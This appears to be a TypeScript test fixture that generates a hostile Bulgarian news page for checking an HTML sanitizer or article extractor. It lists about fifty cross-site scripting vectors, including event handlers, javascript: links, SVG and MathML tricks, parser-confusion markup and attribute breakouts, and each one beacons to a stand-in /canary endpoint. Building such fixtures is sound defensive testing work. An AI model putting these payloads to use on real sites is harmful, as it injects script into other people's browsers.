/**
 * Ways of making a page run what its readers wrote, by the places they use: handlers, foreign elements,
 * addresses, documents inside documents, mark-up that changes its meaning when it is parsed twice, styles.
 * Every one of them would leave a number in `window.ran` and knock at the stand-in's `/canary`.
 */
import { WEB } from "./web";

const script = (n: number) => `window.ran=(window.ran||[]).concat(${n});new Image().src='${WEB}/canary?${n}'`;

/** One piece of mark-up for each way; `js` runs, `js` in an attribute is quoted by double quotes. */
const WAYS: readonly ((js: string, n: number) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<scr<script></script>ipt>${js}</script>`,
  (js) => `<img src="nope" onerror="${js}">`,
  (js) => `<img src=nope onerror = "${js}" alt="">`,
  (js) => `<IMG """><script>${js}</script>">`,
  (js) => `<body onload="${js}">`,
  (js) => `<p onmouseover="${js}" onfocus="${js}" tabindex="0" autofocus>дума</p>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<details open ontoggle="${js}"><summary>още</summary>дума</details>`,
  (js) => `<video autoplay onloadstart="${js}"><source onerror="${js}"></video>`,
  (js) => `<audio src="nope" onerror="${js}"></audio>`,
  (js) => `<marquee onstart="${js}">дума</marquee>`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></animate></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text>дума</text></a></svg>`,
  (js) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${js.replaceAll("'", "")}'/>#x"></use></svg>`,
  (js) => `<math><mi xlink:href="javascript:${js}">дума</mi></math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<iframe srcdoc="<img src=nope onerror=&quot;parent.${js}&quot;>"></iframe>`,
  (_, n) => `<iframe src="${WEB}/canary?${n}"></iframe>`,
  (_, n) => `<object data="${WEB}/canary?${n}"></object><embed src="${WEB}/canary?${n}">`,
  (_, n) =>
    `<link rel="stylesheet" href="${WEB}/canary?${n}"><link rel="prefetch" href="${WEB}/canary?${n}">`,
  (_, n) => `<style>@import url("${WEB}/canary?${n}"); p { background: url("${WEB}/canary?${n}") }</style>`,
  (_, n) => `<p style="background-image:url(${WEB}/canary?${n})">дума</p>`,
  (_, n) =>
    `<img src="${WEB}/canary?${n}" srcset="${WEB}/canary?${n} 2x"><picture><source srcset="${WEB}/canary?${n}"></picture>`,
  (_, n) => `<meta http-equiv="refresh" content="0;url=${WEB}/canary?${n}">`,
  (_, n) => `<base href="${WEB}/canary?${n}">`,
  (_, n) => `<form action="${WEB}/canary?${n}"><button formaction="${WEB}/canary?${n}">дума</button></form>`,
  (js) => `<a href="javascript:${js}">дума</a>`,
  (js) => `<a href="  java\nscript:${js}">дума</a>`,
  (js) => `<a href="&#106;avascript&colon;${js}">дума</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">дума</a>`,
  (js) => `<a href="vbscript:${js}">дума</a>`,
  (js) => `<noscript><p title="</noscript><img src=nope onerror=&quot;${js}&quot;>">дума</p></noscript>`,
  (js) => `<template><img src=nope onerror="${js}"></template>`,
  (js) => `<xmp><p title="</xmp><img src=nope onerror=&quot;${js}&quot;>"></xmp>`,
  (js) => `<textarea><img title="</textarea><img src=nope onerror=&quot;${js}&quot;>"></textarea>`,
  (js) => `<title><img title="</title><img src=nope onerror=&quot;${js}&quot;>"></title>`,
  (js) => `<select><style></select><img src=nope onerror="${js}"></style></select>`,
  (js) => `<!--><img src=nope onerror="${js}">-->`,
  (js) => `<![CDATA[<img src=nope onerror="${js}">]]>`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  (js) => `<x-y onclick="${js}" is="script">дума</x-y>`,
  (js) => `<p id="location" name="cookie" contenteditable onbeforeinput="${js}">дума</p>`,
  (js) => `&lt;img src=nope onerror="${js}"&gt;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `{{constructor.constructor("${js}")()}} \${${js}}`,
];

const attribute = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Closes whatever a piece may have opened, so that it does not swallow the next one. */
const CLOSED =
  "--></style></script></title></textarea></xmp></select></table></math></svg></template></noscript>";

/** A page whose every part is hostile: title, author, metadata, headline, text, lists, tables, posts. */
export function hostilePage(): string {
  const pieces = WAYS.map((way, n) => `${way(script(n), n)}${CLOSED}`);
  const first = (n: number) => pieces[n] ?? "";
  const data = JSON.stringify({
    "@type": "NewsArticle",
    headline: `Заглавие ${first(2)}`,
    author: { name: `Автор ${first(12)}` },
    publisher: { name: `Издание ${first(0)}` },
  }).replaceAll("<", "\\u003c");
  const post = (n: number) =>
    `<blockquote class="twitter-tweet"><p lang="en">Post ${attribute(first(n))} ${first(n)}</p>&mdash; ` +
    `Name ${attribute(first(2))} (@handle) <a href="javascript:${script(900)}">${attribute(first(2))}</a> ` +
    `<a href="https://x.example/u/status/1&quot; onclick=&quot;${script(901)}">May 1</a></blockquote>`;
  const filler = "Около 1200 души прекараха нощта в залата, съобщиха от общината, а водата дойде с цистерни.";
  return `<!doctype html><html lang="bg&quot; onload=&quot;${script(902)}"><head>
<meta property="og:title" content="${attribute(`Заглавие ${first(2)}`)}">
<meta name="author" content="${attribute(first(12))}">
<link rel="canonical" href="javascript:${script(903)}">
<script type="application/ld+json">${data}</script></head>
<body onload="${script(904)}"><article><h1>Заглавие ${first(2)}</h1>
${pieces.map((piece) => `<p>${filler}</p><div>${filler} ${piece}</div>`).join("\n")}
<ul>${pieces.map((piece) => `<li>точка ${piece}</li>`).join("")}</ul>
${[0, 2, 12, 20].map(post).join("\n")}
<p>${filler} Край на статията.</p></article></body></html>`;
}
